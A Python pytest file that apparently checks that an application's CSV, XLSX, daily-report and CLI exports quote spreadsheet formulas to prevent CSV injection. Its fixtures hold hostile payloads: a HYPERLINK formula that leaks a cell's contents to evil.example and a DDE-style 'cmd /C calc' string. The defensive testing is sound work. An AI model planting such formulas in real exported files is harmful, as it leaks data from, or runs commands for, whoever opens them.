"""Exports never hand a spreadsheet a formula (OWASP CSV injection), in CSV or XLSX.

Driven as the attack was: names that start with ``=``, ``+``, ``-``, ``@``
reach the database through an import, then come out of the households export,
the daily report (console and ``gateway report daily``) and the SMS log.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from db.models import Household
from gateway.services.safe_cells import TRIGGERS, neutralise, unquote
from tests import factories
from tests.console.test_import import _previewed

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(world):
    """A team and households whose names would run in a spreadsheet."""
    team = factories.team(world.ab, TEAM)
    for code, phones, name, village in [
        ("AB010", ("+84912000010",), LEAK, "+1+1"),
        ("AB011", (), "-2+3", "\t=1+1"),
    ]:
        row = factories.household(team, code, phones, village=village, people=3)
        Household.update(head_name=name).where(Household.id == row.id).execute()
    return team


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"))))


def _sheet_values(body: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells]


def _no_live_formula(values: list[object]) -> None:
    texts = [value for value in values if isinstance(value, str)]
    assert not [text for text in texts if text.startswith(("=", "@", "\t", "\r"))]
    assert f"'{LEAK}" in texts or f"'{TEAM}" in texts


def test_households_export_csv_and_xlsx_quote_formulas(admin, hostile):
    rows = _csv(admin.get("/console/c/AB/households/export.csv").data)
    by_code = {row[2]: row for row in rows[1:]}
    assert by_code["AB010"][3] == f"'{LEAK}"
    assert by_code["AB010"][4] == "'+1+1"
    assert by_code["AB010"][1] == f"'{TEAM}"
    assert by_code["AB010"][5] == "+84912000010"  # a phone the export wrote stays as it is
    assert by_code["AB011"][3] == "'-2+3"
    assert by_code["AB011"][4] == "'\t=1+1"
    values = _sheet_values(admin.get("/console/c/AB/households/export.xlsx").data)
    _no_live_formula(values)
    assert f"'{LEAK}" in values and "'-2+3" in values
    assert 3 in values  # people: a number the export wrote, still a number


def test_an_exported_file_with_quoted_names_imports_back_unchanged(admin, world, work):
    team = factories.team(world.ab, "=Team")
    row = factories.household(team, "AB010", ("+84912000010",), village="@home")
    Household.update(head_name="=2+5").where(Household.id == row.id).execute()
    exported = admin.get("/console/c/AB/households/export.csv").data
    assert b"'=2+5" in exported and b"'@home" in exported
    page, _address = _previewed(admin, work, exported)
    assert "giữ nguyên 3" in page, re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))
    assert Household.get(Household.code == "AB010").head_name == "=2+5"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_daily_report_downloads_quote_formulas(admin, hostile, fmt):
    body = admin.get(f"/console/c/AB/reports/daily.{fmt}").data
    if fmt == "csv":
        rows = _csv(body)
        teams = [row[1] for row in rows[1:]]
        assert f"'{TEAM}" in teams and TEAM not in teams
        return
    values = _sheet_values(body)
    _no_live_formula(values)
    assert f"'{TEAM}" in values


def test_the_cli_report_quotes_formulas(app, hostile, runner, tmp_path: Path):
    out = tmp_path / "daily.xlsx"
    with app.app_context():
        result = runner.invoke(args=["report", "daily", "--commune", "AB", "--format", "csv"])
        written = runner.invoke(
            args=["report", "daily", "--commune", "AB", "--format", "xlsx", "--output", str(out)]
        )
    assert result.exit_code == written.exit_code == 0, (result.output, written.output)
    assert f"'{TEAM}" in [row[1] for row in csv.reader(io.StringIO(result.output))]
    values = _sheet_values(out.read_bytes())
    _no_live_formula(values)
    assert f"'{TEAM}" in values


@given(st.text(max_size=30))
def test_neutralised_text_never_starts_a_formula_and_reads_back(text: str):
    safe = neutralise(text)
    assert isinstance(safe, str)
    assert unquote(safe) == text
    if safe.startswith(TRIGGERS):
        assert safe.lstrip("+-").replace(".", "").replace(";", "").replace("+", "").isdigit()


@pytest.mark.parametrize(
    "value", [3, -2, 1.5, None, "-12", "+84912000001", "+84912000001;+84912000002"]
)
def test_numbers_the_export_wrote_pass_untouched(value):
    assert neutralise(value) == value
